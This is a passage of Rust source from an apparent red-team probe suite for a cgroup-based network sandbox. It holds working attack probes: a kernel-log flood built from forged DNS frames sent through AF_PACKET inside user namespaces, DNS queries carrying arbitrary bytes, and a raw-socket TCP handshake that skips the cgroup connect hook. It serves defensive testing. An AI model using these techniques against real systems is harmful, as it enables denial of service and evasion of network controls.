    format!("child exit {} ({child}), then connect {}", libc::WEXITSTATUS(status), connect(forged, port))
}

/// Red team 8: floods the kernel log from inside an enforced cgroup, as an
/// unprivileged process can. In a user and network namespace of its own
/// (as nobody), WORKERS processes each bind a UDP socket on 127.0.0.1 and
/// write, for SECONDS, frames through an AF_PACKET socket on that
/// namespace's `lo` that carry a DNS message from RESOLVER port 53 to it:
/// every one meets the cgroup's ingress program, which (the socket is not
/// a DNS socket of the trusted namespace) writes a kernel log record while
/// the log is on. Nothing is ever learned. Prints the frames written.
pub fn klog_flood(resolver: IpAddr, seconds: u64, workers: u32) -> String {
    let IpAddr::V4(resolver4) = resolver else { return "unsupported".into() };
    let mut children = Vec::new();
    for worker in 0..workers.max(1) {
        let out = format!("/tmp/red8-flood-{}-{worker}.txt", std::process::id());
        // SAFETY: single-threaded here; the child exits without returning.
        let pid = unsafe { libc::fork() };
        if pid == 0 {
            let text = match own_namespace(true) {
                Ok(()) => klog_flood_here(resolver4, Duration::from_secs(seconds)),
                Err(step) => format!("own namespace failed at step {step}"),
            };
            let _ = std::fs::write(&out, &text);
            // SAFETY: leaves the child at once.
            unsafe { libc::_exit(0) };
        }
        children.push((pid, out));
    }
    let mut results = Vec::new();
    for (pid, out) in children {
        let mut status = 0;
        // SAFETY: waits for a child just forked.
        unsafe { libc::waitpid(pid, &mut status, 0) };
        results.push(std::fs::read_to_string(&out).unwrap_or_default());
        let _ = std::fs::remove_file(&out);
    }
    results.join("; ")
}

fn klog_flood_here(resolver: std::net::Ipv4Addr, duration: Duration) -> String {
    // Frames written through AF_PACKET carry no route: loopback addresses
    // in them are martians unless the namespace allows them, which its
    // owner (this process, root of its user namespace) may.
    for conf in ["all", "lo"] {
        let path = format!("/proc/sys/net/ipv4/conf/{conf}/route_localnet");
        if std::fs::write(&path, "1").is_err() {
            return format!("cannot write {path}");
        }
    }
    let client = match UdpSocket::bind(("127.0.0.1", 0)) {
        Ok(s) => s,
        Err(e) => return format!("bind:{}", errno_name(&e)),
    };
    let client_port = client.local_addr().expect("local").port();
    // A DNS header and nothing else: enough for the learning path to look.
    let message = [0x42u8, 0x42, 0x81, 0x80, 0, 0, 0, 0, 0, 0, 0, 0];
    let total = 20 + 8 + message.len();
    let mut packet = vec![0u8; total];
    packet[0] = 0x45;
    packet[2..4].copy_from_slice(&(total as u16).to_be_bytes());
    packet[6] = 0x40;
    packet[8] = 64;
    packet[9] = libc::IPPROTO_UDP as u8;
    packet[12..16].copy_from_slice(&resolver.octets());
    packet[16..20].copy_from_slice(&[127, 0, 0, 1]);
    let sum = checksum(&packet[..20]);
    packet[10..12].copy_from_slice(&sum.to_be_bytes());
    packet[20..22].copy_from_slice(&53u16.to_be_bytes());
    packet[22..24].copy_from_slice(&client_port.to_be_bytes());
    packet[24..26].copy_from_slice(&((8 + message.len()) as u16).to_be_bytes());
    packet[28..].copy_from_slice(&message);
    let fd = match socket(libc::AF_PACKET, libc::SOCK_DGRAM, (libc::ETH_P_IP as u16).to_be() as i32) {
        Ok(fd) => fd,
        Err(e) => return format!("packet-socket:{e}"),
    };
    // SAFETY: a NUL-terminated name.
    let ifindex = unsafe { libc::if_nametoindex(c"lo".as_ptr()) };
    // SAFETY: all-zero is a valid sockaddr_ll.
    let mut sll: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
    sll.sll_family = libc::AF_PACKET as u16;
    sll.sll_protocol = (libc::ETH_P_IP as u16).to_be();
    sll.sll_ifindex = ifindex as i32;
    sll.sll_halen = 6;
    let start = std::time::Instant::now();
    let (mut sent, mut failed) = (0u64, 0u64);
    while start.elapsed() < duration {
        for _ in 0..256 {
            // SAFETY: valid fd, buffer and address.
            let n = unsafe {
                libc::sendto(
                    fd.as_raw_fd(),
                    packet.as_ptr() as *const _,
                    packet.len(),
                    0,
                    &sll as *const _ as *const libc::sockaddr,
                    size_of::<libc::sockaddr_ll>() as u32,
                )
            };
            if n < 0 {
                failed += 1;
            } else {
                sent += 1;
            }
        }
    }
    drop(client);
    format!("sent={sent} failed={failed}")
}

/// Red team 8: asks RESOLVER:53 over UDP for a name whose LABELS may hold
/// any byte (`%HH` writes byte HH), as a process in the cgroup can, and
/// waits for the answer. Prints the answer's size and response code.
pub fn raw_name_query(resolver: IpAddr, labels: &[String]) -> String {
    let mut query = vec![0x7a, 0x7a, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in labels {
        let mut bytes = Vec::new();
        let raw = label.as_bytes();
        let mut i = 0;
        while i < raw.len() {
            if raw[i] == b'%' && i + 3 <= raw.len() {
                let hex = std::str::from_utf8(&raw[i + 1..i + 3]).expect("utf8");
                bytes.push(u8::from_str_radix(hex, 16).expect("%HH"));
                i += 3;
            } else {
                bytes.push(raw[i]);
                i += 1;
            }
        }
        query.push(bytes.len() as u8);
        query.extend_from_slice(&bytes);
    }
    query.extend_from_slice(&[0, 0, 1, 0, 1]);
    let socket = match UdpSocket::bind(("0.0.0.0", 0)) {
        Ok(s) => s,
        Err(e) => return format!("bind:{}", errno_name(&e)),
    };
    let _ = socket.set_read_timeout(Some(TIMEOUT));
    if let Err(e) = socket.connect((resolver, 53)) {
        return format!("connect:{}", errno_name(&e));
    }
    if let Err(e) = socket.send(&query) {
        return format!("send:{}", errno_name(&e));
    }
    let mut buf = [0u8; 1024];
    match socket.recv(&mut buf) {
        Ok(n) if n >= 4 => format!("answer {n} bytes rcode {}", buf[3] & 0x0f),
        Ok(n) => format!("answer {n} bytes"),
        Err(e) => format!("no answer:{}", errno_name(&e)),
    }
}

/// The one's-complement sum of the TCP pseudo-header and segment.
fn tcp_checksum(src: IpAddr, dst: IpAddr, segment: &[u8]) -> u16 {
    let mut pseudo = Vec::new();
    match (src, dst) {
        (IpAddr::V4(s), IpAddr::V4(d)) => {
            pseudo.extend_from_slice(&s.octets());
            pseudo.extend_from_slice(&d.octets());
            pseudo.extend_from_slice(&[0, libc::IPPROTO_TCP as u8]);
            pseudo.extend_from_slice(&(segment.len() as u16).to_be_bytes());
        }
        (IpAddr::V6(s), IpAddr::V6(d)) => {
            pseudo.extend_from_slice(&s.octets());
            pseudo.extend_from_slice(&d.octets());
            pseudo.extend_from_slice(&(segment.len() as u32).to_be_bytes());
            pseudo.extend_from_slice(&[0, 0, 0, libc::IPPROTO_TCP as u8]);
        }
        _ => unreachable!("one family"),
    }
    pseudo.extend_from_slice(segment);
    checksum(&pseudo)
}

/// A TCP segment (no options) from `src`:`sport` to `dst`:`dport`.
#[allow(clippy::too_many_arguments)]
fn tcp_segment(
    src: IpAddr,
    dst: IpAddr,
    sport: u16,
    dport: u16,
    seq: u32,
    ack: u32,
    flags: u8,
    data: &[u8],
) -> Vec<u8> {
    let mut seg = Vec::with_capacity(20 + data.len());
    seg.extend_from_slice(&sport.to_be_bytes());
    seg.extend_from_slice(&dport.to_be_bytes());
    seg.extend_from_slice(&seq.to_be_bytes());
    seg.extend_from_slice(&ack.to_be_bytes());
    seg.extend_from_slice(&[5 << 4, flags, 0xff, 0xff, 0, 0, 0, 0]);
    seg.extend_from_slice(data);
    let sum = tcp_checksum(src, dst, &seg);
    seg[16..18].copy_from_slice(&sum.to_be_bytes());
    seg
}

/// The next TCP segment from `peer`:`port` to our `sport` on a raw TCP
/// socket (IPv4 raw sockets read the IP header too, IPv6 ones do not):
/// (seq, flags, payload).
fn raw_tcp_recv(fd: RawFd, v4: bool, port: u16, sport: u16) -> Option<(u32, u8, Vec<u8>)> {
    let mut buf = [0u8; 2048];
    for _ in 0..32 {
        // SAFETY: valid fd and buffer.
        let n = unsafe { libc::recv(fd, buf.as_mut_ptr() as *mut _, buf.len(), 0) };
        if n <= 0 {
            return None;
        }
        let n = n as usize;
        let at = if v4 { ((buf[0] & 0x0f) as usize) * 4 } else { 0 };
        if n < at + 20 {
            continue;
        }
        let tcp = &buf[at..n];
        if u16::from_be_bytes([tcp[0], tcp[1]]) != port || u16::from_be_bytes([tcp[2], tcp[3]]) != sport {
            continue;
        }
        let data_at = ((tcp[12] >> 4) as usize) * 4;
        let seq = u32::from_be_bytes([tcp[4], tcp[5], tcp[6], tcp[7]]);
        return Some((seq, tcp[13], tcp[data_at.min(tcp.len())..].to_vec()));
    }
    None
}

/// A TCP exchange written by hand on a raw socket of protocol TCP
/// (socket(AF_INET[6], SOCK_RAW, IPPROTO_TCP): CAP_NET_RAW), connect()ed to
/// ADDR:PORT: a SYN, then, on the SYN-ACK, an ACK carrying a line, then
/// the echo. `ok` when the line came back through the listener,
/// `synack-only` when only the SYN-ACK did, `no-reply`, or the errno name
/// of the send. (The local kernel resets the SYN-ACK and the data it has
/// no socket for; the exchange completes with a peer that ignores resets,
/// or where they are dropped.)
pub fn raw_tcp(addr: IpAddr, port: u16) -> String {
    let v4 = addr.is_ipv4();
    let local: IpAddr = if v4 { "127.0.0.1".parse().unwrap() } else { "::1".parse().unwrap() };
    let fd = match socket(family_of(addr), libc::SOCK_RAW, libc::IPPROTO_TCP) {
        Ok(fd) => fd,
        Err(e) => return format!("socket:{e}"),
    };
    let (sa, len) = sockaddr(local, 0);
    // SAFETY: valid fd and sockaddr.
    if unsafe { libc::bind(fd.as_raw_fd(), &sa as *const _ as *const _, len) } < 0 {
        return format!("bind:{}", last_error());
    }
    // The raw socket's connect: its peer becomes the socket's dst_ip and
    // dst_port (no cgroup connect hook runs for raw sockets).
    if let Err(e) = connect_fd(fd.as_raw_fd(), addr, port) {
        return format!("connect:{e}");
    }
    let sport = 20000 + (std::process::id() % 20000) as u16;
    let seq = 0x7261_6d00u32;
    let send = |segment: &[u8]| -> Result<(), String> {
        // SAFETY: valid fd and buffer.
        if unsafe { libc::send(fd.as_raw_fd(), segment.as_ptr() as *const _, segment.len(), 0) } < 0 {
            return Err(last_error());
        }
        Ok(())
    };
    if let Err(e) = send(&tcp_segment(local, addr, sport, port, seq, 0, 0x02, &[])) {
        return e;
    }
    let Some((peer_seq, flags, _)) = raw_tcp_recv(fd.as_raw_fd(), v4, port, sport) else {
        return "no-reply".into();
    };
    if flags & 0x12 != 0x12 {
        return format!("flags-{flags:#x}");
    }
    let line = b"ram-probe raw tcp\n";
    if let Err(e) = send(&tcp_segment(local, addr, sport, port, seq + 1, peer_seq.wrapping_add(1), 0x18, line)) {
        return format!("synack-only, then {e}");
    }
    for _ in 0..8 {
        match raw_tcp_recv(fd.as_raw_fd(), v4, port, sport) {
            Some((_, _, data)) if data.starts_with(line) => return "ok".into(),
            Some(_) => continue,
            None => break,
        }
    }
    "synack-only".into()
}
